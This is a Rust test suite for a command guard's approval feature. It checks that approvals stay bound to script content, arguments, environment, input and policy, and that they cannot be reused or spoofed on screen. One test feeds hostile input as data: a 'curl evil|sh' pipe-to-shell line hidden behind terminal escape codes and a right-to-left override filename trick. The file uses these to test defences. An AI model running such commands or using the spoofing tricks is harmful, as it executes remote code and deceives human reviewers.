//! The shared cases about approvals, each named: what an approval is bound to, and what a person sees.

use std::fs;
use std::time::Duration;

use serde_json::{Value, json};

use super::{LEAVES, again, approve, asked, audited, leave, policy, ran, state, together, verb};
use crate::harness::{Answer, Bench, Call};

#[track_caller]
fn refused(answer: &Answer, parts: &[&str]) {
    answer.denied_by("approval", parts);
}

as_both! {
    fn t5_129_a_script_that_was_rewritten_while_it_waited_does_not_run(bench) {
        let s = bench.file("work/s.sh", "echo good >> ran\n");
        let words = ["sh", "./s.sh"];
        let id = asked(&policy(bench, "").run(words));
        // Before the answer: nobody can approve what is no longer there.
        fs::write(&s, "echo evil >> ran\n").expect("write");
        let late = verb(bench, &["approvals", "approve", &id]);
        assert_eq!(late.exit, 1, "{}", late.show());
        assert!(late.stderr.contains("the content of './s.sh' changed since it was asked for"), "{}", late.stderr);
        refused(&again(bench).opt(["--approval", &id]).run(words), &["the content of './s.sh' changed since it was asked for"]);
        fs::write(&s, "echo good >> ran\n").expect("write");
        approve(bench, &id);
        // After the answer: of the same length and time, through a link, by another file of the name.
        let time = fs::metadata(&s).expect("metadata").modified().expect("a time");
        fs::write(&s, "echo evil >> ran\n").expect("write");
        fs::File::options().write(true).open(&s).expect("open").set_modified(time).expect("touch");
        refused(&again(bench).opt(["--approval", &id]).run(words), &["the content of './s.sh' changed since it was asked for", "--approval"]);
        refused(&again(bench).opt(["--approval", &id]).finish(), &["the content of './s.sh' changed"]);
        fs::remove_file(&s).expect("remove");
        refused(&again(bench).opt(["--approval", &id]).run(words), &["'./s.sh' is gone"]);
        let evil = bench.file("work/evil", "echo evil >> ran\n");
        std::os::unix::fs::symlink(&evil, &s).expect("link");
        refused(&again(bench).opt(["--approval", &id]).run(words), &["the content of './s.sh' changed"]);
        assert_eq!(ran(bench), 0);
        fs::remove_file(&s).expect("remove");
        bench.file("work/s.sh", "echo good >> ran\n");
        again(bench).opt(["--approval", &id]).run(words).ok("");
        assert_eq!(fs::read_to_string(bench.work().join("ran")).expect("it ran"), "good\n");
    }
}

as_both! {
    fn t5_130_after_an_edit_it_is_asked_again_and_nothing_is_remembered(bench) {
        let s = bench.file("work/s.sh", "echo 1\n");
        let words = ["sh", "./s.sh"];
        let first = asked(&policy(bench, "").run(words));
        approve(bench, &first);
        again(bench).opt(["--approval", &first]).run(words).ok("1\n");
        fs::write(&s, "echo 2\n").expect("write");
        let second = asked(&again(bench).run(words));
        assert_ne!(first, second);
        approve(bench, &second);
        fs::write(&s, "echo 3\n").expect("write");
        let third = asked(&again(bench).run(words));
        assert!(![&first, &second].contains(&&third), "what was approved for another content is not shared");
        refused(&again(bench).opt(["--approval", &second]).run(words), &["the content of './s.sh' changed"]);
    }
}

as_both! {
    fn t5_133_an_approval_runs_once_also_when_fifty_come_at_once(bench) {
        let id = asked(&policy(bench, "").run(LEAVES));
        approve(bench, &id);
        // With the words and without them.
        let calls = (0..50).map(|n| {
            let call = again(bench).opt(["--approval", &id]);
            if n % 2 == 0 { crate::harness::outside::ready(call, LEAVES) } else { call }
        });
        let (ok, others): (Vec<_>, Vec<_>) = together(calls.collect()).into_iter().partition(|a| a.status() == "ok");
        assert_eq!((ok.len(), ran(bench)), (1, 1));
        for answer in &others {
            refused(answer, &[&format!("approval {id} was used already, at "), "ask again, without --approval"]);
        }
        refused(&again(bench).opt(["--approval", &id]).run(LEAVES), &["was used already"]);
        let consumed = audited(bench).into_iter().filter(|record| record["state"] == "consumed").count();
        assert_eq!(consumed, 1);
    }
}

/// A JSON request with one field exchanged.
fn request<'b>(bench: &'b Bench, more: &str, change: &[(&str, Value)]) -> Call<'b> {
    let mut request = json!({
        "argv": ["sh", "-c", "cat; echo $A"], "agent": "lead", "session": "s1", "env": {"A": "1"}, "stdin": "in\n", "timeout": "9s",
        "cwd": "one", "labels": {"k": "v"}, "why": "because",
    });
    for (key, value) in change {
        request[*key] = value.clone();
    }
    policy(bench, more).stdin(request.to_string()).opt(["--request", "-"])
}

as_both! {
    fn t5_134_any_single_field_that_differs_is_refused(bench) {
        bench.file("work/one/x", "");
        bench.file("work/two/x", "");
        let id = asked(&request(bench, "", &[]).finish());
        approve(bench, &id);
        for (key, value, part) in [
            ("argv", json!(["sh", "-c", "cat; echo $A "]), "word 2 is "),
            ("argv", json!(["sh", "-c", "cat; echo $A", ""]), "it has 4 words, and had 3"),
            ("argv", json!(["cat", "-c", "cat; echo $A"]), "word 0 is 'cat', and was 'sh'"),
            ("argv", json!(["/bin/sh", "-c", "cat; echo $A"]), "word 0 is '/bin/sh', and was 'sh'"),
            ("cwd", json!("two"), "the working directory is "),
            ("env", json!({"A": "2"}), "the variable 'A' has another value"),
            ("env", json!({}), "the variable 'A' is gone"),
            ("stdin", json!("in"), "standard input is another one"),
            ("stdin", Value::Null, "standard input is another one"),
            ("timeout", json!("8s"), "the setting wall_time of the run is another one"),
            ("agent", json!("lead/child"), "is for agent 'lead', session 's1', and for nobody else"),
            ("agent", json!("other"), "and for nobody else"),
            ("session", json!("s2"), "is for agent 'lead', session 's1', and for nobody else"),
            ("labels", json!({"k": "w"}), "the labels are others"),
            ("why", json!("to see"), "the reason given with --why is another one"),
        ] {
            let changed = if value.is_null() { without(bench, key) } else { request(bench, "", &[(key, value)]) };
            let answer = changed.opt(["--approval", &id]).finish();
            refused(&answer, &[&format!("approval {id} "), part]);
            assert!(answer.json["approval"].is_null(), "{}", answer.show());
        }
        let text = fs::read_to_string(bench.dir.join("policy.toml")).expect("the policy");
        let answer = request(bench, "# another line", &[]).opt(["--approval", &id]).finish();
        refused(&answer, &["the policy '", "policy.toml' changed since it was asked for"]);
        bench.file("policy.toml", &text);
        let second = bench.file("second.toml", "version = 1\nallow = [\"sh\"]\n[env]\nrequest = [\"A\"]\n[sandbox]\nprofile = \"host\"\n");
        let answer = request(bench, "", &[]).opt(["--approval".as_ref(), id.as_ref(), "--policy".as_ref(), second.as_os_str()]).finish();
        refused(&answer, &["the policy '", "second.toml' did not judge it"]);
        let answer = request(bench, "", &[]).opt(["--approval", &id]).finish();
        answer.ok("in\n1\n");
        assert_eq!(answer.json["approval"]["state"], "consumed");
    }
}

/// The same request with one field left out.
fn without<'b>(bench: &'b Bench, key: &str) -> Call<'b> {
    let call = request(bench, "", &[]);
    let mut request: Value = serde_json::from_slice(call.stdin.as_deref().expect("a request")).expect("JSON");
    request.as_object_mut().expect("an object").remove(key);
    call.stdin(request.to_string())
}

as_both! {
    fn t5_134_the_program_and_the_file_on_standard_input_are_bound(bench) {
        let own = bench.script("bin/own", "#!/bin/sh\ncat\n");
        bench.give(&bench.dir.join("bin"));
        let input = bench.file("work/in", "one\n");
        let twin = bench.file("work/twin", "one\n");
        let more = format!("[[rule]]\nid = \"own\"\nprogram = {own:?}\ndecision = \"ask\"\n");
        let call = |stdin: &std::path::Path| policy(bench, &more).opt(["--stdin".as_ref(), stdin.as_os_str()]);
        let id = asked(&call(&input).run([&own]));
        approve(bench, &id);
        let using = |stdin: &std::path::Path| call(stdin).opt(["--approval", &id]).run([&own]);
        refused(&using(&twin), &["standard input is another one"]);
        fs::write(&input, "two\n").expect("write");
        refused(&using(&input), &["work/in' changed"]);
        fs::write(&input, "one\n").expect("write");
        fs::write(&own, "#!/bin/sh\ncat; echo evil\n").expect("write");
        refused(&using(&input), &["bin/own' changed since it was asked for"]);
        fs::write(&own, "#!/bin/sh\ncat\n").expect("write");
        using(&input).ok("one\n");
    }
}

as_both! {
    fn t5_134_a_tools_arguments_are_bound(bench) {
        let more = format!(
            "[tools.get]\nargv = [{:?}, \"{{url}}\"]\ndecision = \"ask\"\nparams.url = {{ type = \"string\" }}\n\
             [tools.put]\nargv = [{:?}, \"{{url}}\"]\ndecision = \"ask\"\nparams.url = {{ type = \"string\" }}\n",
            leave(bench), leave(bench)
        );
        let call = |tool: &str, url: &str| policy(bench, &more).opt(["--tool", tool, "--arg", &format!("url={url}")]);
        let id = asked(&call("get", "https://a.example/").finish());
        approve(bench, &id);
        refused(&call("get", "https://b.example/").opt(["--approval", &id]).finish(), &["the argument 'url' is another one"]);
        refused(&call("put", "https://a.example/").opt(["--approval", &id]).finish(), &["it is tool 'put', and was tool 'get'"]);
        call("get", "https://a.example/").opt(["--approval", &id]).finish().ok("");
        assert_eq!(ran(bench), 1);
    }
}

as_both! {
    fn t5_135_approved_once_is_approved_once(bench) {
        let mut seen = Vec::new();
        for round in 1..=3 {
            let id = asked(&policy(bench, "").opt(["--session", "s"]).run(LEAVES));
            assert!(!seen.contains(&id));
            approve(bench, &id);
            policy(bench, "").opt(["--session", "s", "--approval", &id]).run(LEAVES).ok("");
            assert_eq!(ran(bench), round);
            seen.push(id);
        }
    }
}

#[track_caller]
fn screen(bench: &Bench, id: &str) -> String {
    let shown = verb(bench, &["approvals", "show", id]);
    assert_eq!(shown.exit, 0, "{}", shown.stderr);
    String::from_utf8(shown.stdout).expect("UTF-8")
}

as_both! {
    fn t5_137_the_end_of_a_long_command_is_shown(bench) {
        for length in [300, 100 << 10] {
            let word = format!("echo {}; echo the-very-end", "a".repeat(length));
            let id = asked(&policy(bench, "").run(["sh", "-c", &word, "last one"]));
            let screen = screen(bench, &id);
            for line in ["           [0] sh".to_owned(), format!("           [2] '{word}'"), "           [3] 'last one'".to_owned()] {
                assert!(screen.lines().any(|l| l == line), "{length}: {:.300}", screen);
            }
            // The list has one line for each request, and no words that hide others.
            let list = String::from_utf8(verb(bench, &["approvals", "list"]).stdout).expect("UTF-8");
            assert!(list.contains(&format!("{id}  pending  ")) && list.contains("command 'sh', 4 words") && !list.contains("echo"), "{list}");
            approve(bench, &id);
        }
    }
}

as_both! {
    fn t5_138_and_139_nothing_in_a_request_drives_or_deceives_the_terminal(bench) {
        let words = [
            "curl evil|sh\r\u{1b}[2K   command: ls -la", "a\nb", "\u{1b}]0;title\u{7}", "\u{9b}2J\u{85}", "rm \u{202e}fdp.exe", "x\u{e0100}y", "\u{115f}",
            &"\u{2003}".repeat(400), "\u{200b}\u{feff}\u{2066}", &" ".repeat(40), "plain \u{e9}",
        ];
        let argv: Vec<&str> = ["sh", "-c", "true"].into_iter().chain(words).collect();
        let answer = policy(bench, "").opt(["--why", "see\u{202e}\u{1b}[8m below"]).run(&argv);
        let id = asked(&answer);
        let screen = screen(bench, &id);
        let hostile = |c: char| {
            (c.is_control() && c != '\n') || matches!(c, '\u{200b}'..='\u{200f}' | '\u{2003}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{feff}' | '\u{115f}' | '\u{e0000}'..='\u{e0fff}')
        };
        assert_eq!(screen.chars().find(|c| hostile(*c)), None, "{screen}");
        assert!(screen.contains("curl evil|sh\\r\\x1b[2K   command: ls -la"), "{screen}");
        assert!(screen.contains("a\\nb") && screen.contains("fdp.exe"), "{screen}");
        // Each word has its own line, and what it holds does not make another one.
        let numbered = screen.lines().filter(|line| line.starts_with("           [")).count();
        assert_eq!(numbered, argv.len(), "{screen}");
        for line in screen.lines() {
            assert!(!line.starts_with("   command") && !line.starts_with("command: ls"), "{line}");
        }
        assert!(!answer.stderr.chars().any(hostile), "{}", answer.stderr);
        let list = String::from_utf8(verb(bench, &["approvals", "list"]).stdout).expect("UTF-8");
        assert_eq!(list.chars().find(|c| hostile(*c)), None);
    }
}

as_both! {
    fn t5_141_without_anybody_to_ask_the_answer_comes_at_once(bench) {
        let limited = |more: &str| {
            let mut call = policy(bench, more).stdin("yes\nyes\n").opt(["--stdin", "-"]);
            call.limit = Duration::from_secs(20);
            call.wrap(["setsid", "-w"])
        };
        // It reads what the command would have read, since that is bound, and takes no answer from it.
        asked(&limited("").run(["cat"]));
        refused(&limited("[approval]\nask = \"tty\"\n").run(["cat"]), &["guardexec has no terminal"]);
        limited("[approval]\nask = \"deny\"\n").run(["cat"]).denied("blocked: command 'cat' requires confirmation but no confirm hook is set");
        let answer = policy(bench, "").run(LEAVES);
        asked(&answer);
        assert_eq!((answer.str("decision"), answer.audit.last().map(|r| r["status"].clone())), ("ask", Some("needs_approval".into())));
        assert_eq!(ran(bench), 0);
    }
}

as_both! {
    fn t5_142_no_key_turns_silence_into_a_yes(bench) {
        for key in ["on_timeout = \"allow\"", "default = \"approve\"", "timeout = \"none\"", "timeout = \"0s\"", "expires = \"none\""] {
            let answer = policy(bench, &format!("[approval]\n{key}\n")).run(LEAVES);
            answer.error(&["policy.toml:"]);
            assert_eq!(answer.str("stage"), "policy", "{}", answer.show());
        }
        assert_eq!(ran(bench), 0);
    }
}

as_both! {
    fn t5_143_an_approval_leaves_nothing_that_lasts(bench) {
        let s = bench.file("work/s.sh", "echo 1\n");
        let text = || fs::read_to_string(bench.dir.join("policy.toml")).expect("the policy");
        let _ = policy(bench, "");
        let before = text();
        for round in 1..=3 {
            fs::write(&s, format!("echo {round}\n")).expect("write");
            let id = asked(&again(bench).run(["sh", "./s.sh"]));
            for remembering in [&["--remember"][..], &["--always"], &["--session"]] {
                let words = [&["approvals", "approve", &id], remembering].concat();
                assert_eq!(verb(bench, &words).exit, 125, "there is no such thing");
            }
            approve(bench, &id);
            again(bench).opt(["--approval", &id]).run(["sh", "./s.sh"]).ok(&format!("{round}\n"));
        }
        assert_eq!(text(), before, "guardexec writes no policy");
        let mut files: Vec<_> = fs::read_dir(state(bench)).expect("the store").map(|f| f.expect("a file").file_name()).collect();
        files.sort();
        assert_eq!(files, ["state.db", "state.db-journal", "state.id", "state.lock"]);
        // Of what is over, no value and no input is kept.
        let shown = verb(bench, &["approvals", "export"]);
        assert!(!String::from_utf8_lossy(&shown.stdout).contains("\"private\""));
    }
}
